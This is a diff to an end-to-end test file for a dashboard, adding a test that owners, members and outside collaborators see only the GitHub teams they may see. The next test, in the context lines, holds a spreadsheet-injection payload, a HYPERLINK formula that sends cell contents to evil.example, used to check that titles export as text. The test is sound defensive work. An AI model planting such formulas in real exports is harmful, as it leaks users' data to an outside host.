@@ -118,6 +118,48 @@ describe('who sees what on the dashboard', () => {
     await page.context().close();
   });
 
+  it('shows GitHub teams as GitHub does: an owner all, a member the visible ones and no secret one they are not in, an outside collaborator none', async () => {
+    const teams = github.sim.dataset.teams.list();
+    const secret = teams.find((team) => team.privacy === 'SECRET');
+    const visible = teams.filter((team) => team.privacy !== 'SECRET');
+    expect(secret).toBeDefined();
+    expect(visible.length).toBeGreaterThanOrEqual(2);
+    const inSecret = new Set(
+      github.sim.dataset.teams.members(secret as never, Date.now()).map((member) => member.user.id),
+    );
+    const outsider = github.sim.dataset.members.find(
+      (member) =>
+        member.type === 'User' && member.id !== github.sim.admin.id && !inSecret.has(member.id),
+    );
+    if (!outsider) throw new Error('every member is in the secret team');
+    const teamLinks = async (page: Page) =>
+      (
+        await page.locator(`a[href^="/installations/${installationId}/teams/"]`).allTextContents()
+      ).sort();
+
+    const owner = await signedIn(github.sim.admin.login);
+    await owner.goto(url(''));
+    expect(await teamLinks(owner)).toEqual(teams.map((team) => team.name).sort());
+    expect(await owner.getByText('team figures overlap').count()).toBeGreaterThan(0);
+    await owner.context().close();
+
+    const member = await signedIn(outsider.login);
+    await member.goto(url(''));
+    expect(await teamLinks(member)).toEqual(visible.map((team) => team.name).sort());
+    expect((await member.goto(url(`/teams/${secret?.id}`)))?.status()).toBe(404);
+    expect(await member.content()).not.toContain(secret?.name as string);
+    const shown = await member.goto(url(`/teams/${visible[0]?.id}`));
+    expect(shown?.status()).toBe(200);
+    await member.getByText('Members:').waitFor();
+    await member.context().close();
+
+    const collaborator = await signedIn(github.sim.collaborator.user.login);
+    await collaborator.goto(url(''));
+    expect(await teamLinks(collaborator)).toEqual([]);
+    expect((await collaborator.goto(url(`/teams/${visible[0]?.id}`)))?.status()).toBe(404);
+    await collaborator.context().close();
+  });
+
   it('hands a title built to run in a spreadsheet over as text', async () => {
     const hostile = '=HYPERLINK("https://evil.example/steal?c="&A1,"Open")';
     await github.sim.activity.open('seers/site', { title: hostile });
